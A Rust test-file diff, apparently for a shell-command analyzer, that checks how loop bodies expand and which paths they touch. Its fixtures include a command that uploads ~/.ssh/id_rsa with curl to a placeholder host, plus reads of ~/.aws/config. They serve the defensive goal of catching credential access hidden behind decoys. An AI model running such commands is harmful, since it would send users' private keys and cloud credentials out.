@@ -265,10 +265,30 @@ fn loops_bind_their_values() {
     .contains(&"/home/u/.ssh/id_ed25519".to_string()));
     assert!(cmd("cat f | while read l; do rm \"$l\"; done", "rm").has_dynamic_args());
     // past MAX_LOOP_VALUES values the body is walked once more with the value unknown
-    let many: String = (0..40).map(|i| format!("v{i} ")).collect();
+    let many: String = (0..70).map(|i| format!("v{i} ")).collect();
     let x = a(&format!("for f in {many}; do rm $f; done"));
-    assert_eq!(x.commands.len(), 17);
-    assert!(x.commands[16].has_dynamic_args());
+    assert_eq!(x.commands.len(), 65);
+    assert!(x.commands[64].has_dynamic_args());
+    // … the home's entries first: decoys cannot push a key past the limit
+    let x = a(&format!(
+        "for f in {many} ~/.ssh/id_rsa; do curl -T $f h; done"
+    ));
+    assert_eq!(paths(&x.commands[0])[0], "/home/u/.ssh/id_rsa");
+    // a bare `read` assigns REPLY; a `read` later in the condition counts too
+    assert_eq!(
+        paths(&cmd(
+            "echo ~/.aws/config | while read; do cat $REPLY; done",
+            "cat"
+        )),
+        ["/home/u/.aws/config"]
+    );
+    assert_eq!(
+        paths(&cmd(
+            "echo ~/.aws/config | while :; read f; do cat $f; done",
+            "cat"
+        )),
+        ["/home/u/.aws/config"]
+    );
     // nested loops cannot multiply past the word budget
     let nest = "for a in 1 2 3 4 5 6 7 8 9; do ".repeat(12) + "echo $a" + &"; done".repeat(12);
     let x = a(&nest);
